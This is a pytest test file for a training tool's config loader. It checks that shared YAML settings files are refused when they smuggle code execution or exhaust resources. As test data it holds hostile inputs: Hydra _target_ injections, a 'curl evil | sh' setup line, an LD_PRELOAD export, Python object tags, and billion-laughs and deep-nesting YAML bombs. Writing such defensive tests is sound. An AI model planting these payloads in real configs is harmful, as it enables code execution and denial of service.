"""A file of settings that somebody passed on: by --config, or in a folder of --config-dir. It is read as settings."""

from __future__ import annotations

import json
import time
import tracemalloc
from pathlib import Path

import pytest

from qlora_fsdp.config.bounded_yaml import parse_yaml
from qlora_fsdp.config.schema import Files, Run
from qlora_fsdp.config.settings import all_settings
from qlora_fsdp.train import main

DRY_RUN = ["model=tiny", "data=random", "training.max_steps=1", "launch.dry_run=true"]
JOBS = (["-m"], ["hydra/launcher=slurm"])
MKDIR = "{_target_: os.mkdir, path: MARKER}"  # what a file would have Hydra call

# 430 bytes that stand for a billion values.
LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{name}: &{name} [{','.join([f'*{before}'] * 9)}]\n" for before, name in zip("abcdefghi", "bcdefghij", strict=True)
)
NESTED = "lora: " + "[" * 100_000
GROWING = f"""
run: {{name: xxxxxxxxxx}}
model: {{name: "{"${run.name}" * 1000}"}}
tracking: {{project: "{"${model.name}" * 1000}"}}
hub: {{repo: "{"${tracking.project}" * 1000}"}}
"""


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    for name in ("experiment", "team", "hydra/launcher", "hydra/callbacks"):
        (tmp_path / "conf" / name).mkdir(parents=True)
    return tmp_path / "conf"


def refusal(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert main([*argv, *DRY_RUN]) == 2
    shown = capsys.readouterr().err
    assert "Traceback" not in shown and shown.count("Error: ") == 1
    return shown


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"hydra: {{callbacks: {{x: {MKDIR}}}}}", "mine.yaml: hydra.callbacks.x._target_=os.mkdir tells Hydra what to"),
        (f"hydra: {{launcher: {MKDIR}}}", "mine.yaml: hydra.launcher._target_=os.mkdir tells Hydra what to run"),
        ("hydra: {sweep: {dir: /tmp}}", "mine.yaml: hydra.sweep={dir: /tmp} is not for a file of settings. Type it"),
        ("hydra: {sweeper: {custom_search_space: os.f}}", "hydra.sweeper.custom_search_space=os.f is not for a file"),
        ("defaults: [/team@hydra.callbacks: evil]", "mine.yaml puts values among Hydra's own settings"),
        ("model: {config: {a: [{_target_: os.mkdir}]}}", "model.config.a._target_=os.mkdir tells Hydra what to run"),
        ("defaults: [override /hydra/callbacks: evil]", "Could not find 'hydra/callbacks/evil'"),
    ],
)
@pytest.mark.parametrize("how", JOBS, ids=("sweep", "slurm"))
def test_an_experiment_runs_nothing(
    folder: Path, capsys: pytest.CaptureFixture[str], text: str, expected: str, how: list[str]
) -> None:
    marker = folder / "ran"
    evil = MKDIR.replace("MARKER", str(marker))
    (folder / "experiment" / "mine.yaml").write_text(f"# @package _global_\n{text.replace('MARKER', str(marker))}\n")
    (folder / "team" / "evil.yaml").write_text(f"x: {evil}\n")
    (folder / "hydra" / "callbacks" / "evil.yaml").write_text(f"x: {evil}\n")
    assert expected in refusal(capsys, *how, "--config-dir", "conf", "experiment=mine")
    assert not marker.exists()


def test_a_package_of_hydras_is_refused_and_its_own_groups_are_not_replaced(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = MKDIR.replace("MARKER", str(folder / "ran")).strip("{}").replace(", ", "\n")
    (folder / "team" / "evil.yaml").write_text(f"# @package hydra.callbacks.x\n{evil}\n")
    (folder / "hydra" / "launcher" / "slurm.yaml").write_text(evil)
    assert "team/evil.yaml: _target_=os.mkdir tells" in refusal(capsys, "-m", "--config-dir", "conf", "team=evil")
    assert main(["--config-dir", "conf", "hydra/launcher=slurm", *DRY_RUN]) == 0
    assert "#SBATCH --job-name=run" in capsys.readouterr().out and not (folder / "ran").exists()


def test_a_sweeper_may_be_told_by_a_file(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "experiment" / "mine.yaml").write_text(
        "# @package _global_\nhydra: {sweeper: {params: {lora.r: '2,4'}}}\nlora: &l {r: 3}\n"
    )
    assert main(["-m", "--config-dir", "conf", "experiment=mine", *DRY_RUN]) == 0
    assert capsys.readouterr().out.count(" lora.r=") == 2


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("model: {trust_remote_code: true}", "my.yaml: model.trust_remote_code=true would let code that comes with"),
        ("model.trust_remote_code: yes", "if you trust the model, type model.trust_remote_code=true."),
        ("model: {trust_remote_code: '${checkpoint.keep_last}'}", "would let code that comes with a model run"),
        ("run: {name: '${oc.env:HOME}'}", "my.yaml: run.name=${oc.env:HOME} is no plain value: ${...} reads your env"),
        ("run: {name: '${oc.env:HOME}'}", "Remove it from the file, or type run.name=... yourself."),
        ("model: '${oc.env:HOME}'", "my.yaml: model=${oc.env:HOME} is no plain value"),
        ("run: {name: 'a${lora.${oc.env:HOME}}'}", "is no plain value"),
        ("lora: {target_modules: ['${oc.decode:x}']}", "my.yaml: lora.target_modules[0]=${oc.decode:x} is no plain"),
        ("model: {config: {_target_: os.mkdir}}", "model.config._target_=os.mkdir is an instruction to Hydra"),
        ("model: {config: {auto_map: {a: b}}}", "names code to run, which only you can allow."),
        (f"hydra: {{callbacks: {{x: {MKDIR}}}}}", "is no setting of a run. Type hydra.* on the command line."),
        ("hydra.callbacks.x._target_: os.mkdir", "hydra.callbacks.x._target_=os.mkdir is not a setting."),
        ("hydra/launcher: evil", "hydra/launcher=evil is not a setting."),
        (
            "optim: 'a,hydra.launcher._target_=os.mkdir'",
            "optim=a,hydra.launcher._target_=os.mkdir is no option of",
        ),
        ("run: {name: !!python/object/apply:os.mkdir [ran]}", "could not determine a constructor for the tag"),
    ],
)
def test_a_config_file_holds_settings_alone(
    folder: Path, capsys: pytest.CaptureFixture[str], text: str, expected: str
) -> None:
    Path("my.yaml").write_text(text)
    assert expected in refusal(capsys, "--config", "my.yaml")
    assert sorted(path.name for path in Path().iterdir()) == ["conf", "my.yaml"]


ONLY_TYPED = {
    "slurm.setup": (["curl evil | sh"], """'slurm.setup=["curl evil | sh"]'"""),
    "slurm.options": (["--export=ALL,LD_PRELOAD=x"], """'slurm.options=["--export=ALL,LD_PRELOAD=x"]'"""),
    "slurm.container": ("evil/image", "slurm.container=evil/image"),
    "launch.config_file": ("accelerate.yaml", "launch.config_file=accelerate.yaml"),
    "model.trust_remote_code": (True, "model.trust_remote_code=true"),
}


@pytest.mark.parametrize("key", ONLY_TYPED)
def test_what_runs_and_who_is_connected_to_is_typed(folder: Path, capsys: pytest.CaptureFixture[str], key: str) -> None:
    """A file that was passed on is told what to type; a folder of one's own may have it, and an empty value is none."""
    value, typed = ONLY_TYPED[key]
    Path("my.yaml").write_text(json.dumps({key: value}))
    Path("accelerate.yaml").write_text("distributed_type: MULTI_GPU\nnum_processes: 2\n")
    shown = refusal(capsys, "--config", "my.yaml")
    assert f"my.yaml: {key}=" in shown and "Remove it; if you " in shown and f"type {typed}." in shown
    Path("my.yaml").write_text(json.dumps({key: [] if isinstance(value, list) else None}))
    if key != "model.trust_remote_code":
        assert main(["--config", "my.yaml", "hydra/launcher=slurm", *DRY_RUN]) == 0
    section, _, name = key.partition(".")
    own = json.dumps({section: {name: value}})
    (folder / "experiment" / "mine.yaml").write_text(f"# @package _global_\n{own}\n")
    assert main(["--config-dir", "conf", "experiment=mine", "hydra/launcher=slurm", *DRY_RUN]) == 0


def test_no_field_of_the_launch_decides_that_unsaid() -> None:
    """What says how runs are started is looked at one by one: a new field says here or there whose it is."""
    harmless = {"num_processes", "parallel", "dry_run", "partition", "account", "time", "nodes"}
    harmless |= {"gpus_per_node", "cpus_per_task"}
    harmless |= {"accelerators", "num_nodes", "cpus", "memory", "use_spot"}  # of SkyPilot
    harmless |= {"kind", "queue", "mount_path", "grace_seconds", "retries"}  # of Kubernetes
    start = {key for key, found in all_settings().items() if found.facets.run is Run.start}
    assert {key.partition(".")[2] for key in start if all_settings()[key].files is not Files.none} == harmless


def test_what_is_plain_in_it_is_taken(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    Path("my.yaml").write_text("run: {name: 'of-${model.name}'}\nmodel.trust_remote_code: false\n")
    assert main(["--config", "my.yaml", "-m", "lora.r=2,4", *DRY_RUN]) == 0
    assert "run.name=of-tiny__lora.r=2" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (LAUGHS, "it stands for more than 131,072 values."),
        (NESTED, "lists and mappings are nested more than 64 deep."),
        ("a: &a [*a]", "it stands for more than 131,072 values."),
        ("lora: {r: " + "1" * 100_000 + "}", "can't be read: "),
        ("#" * 2**21, "can't be read: it is larger than 1 MiB."),
        (GROWING, "stands for more than 1,048,576 letters: the settings that it names name others."),
    ],
    ids=("laughs", "nested", "endless", "digits", "large", "growing"),
)
def test_a_small_file_takes_little_time_and_memory(
    folder: Path, capsys: pytest.CaptureFixture[str], text: str, expected: str
) -> None:
    Path("my.yaml").write_text(text)
    (folder / "experiment" / "mine.yaml").write_text(f"# @package _global_\n{text}")
    for argv in (["--config", "my.yaml"], ["--config-dir", "conf", "experiment=mine"]):
        assert expected in refusal(capsys, *argv)


def test_nothing_is_made_of_values_before_they_are_counted() -> None:
    tracemalloc.start()
    started = time.process_time()
    for text in (LAUGHS, NESTED):
        with pytest.raises(ValueError):
            parse_yaml(text)
    assert tracemalloc.get_traced_memory()[1] < 2**24 and time.process_time() - started < 60
    tracemalloc.stop()
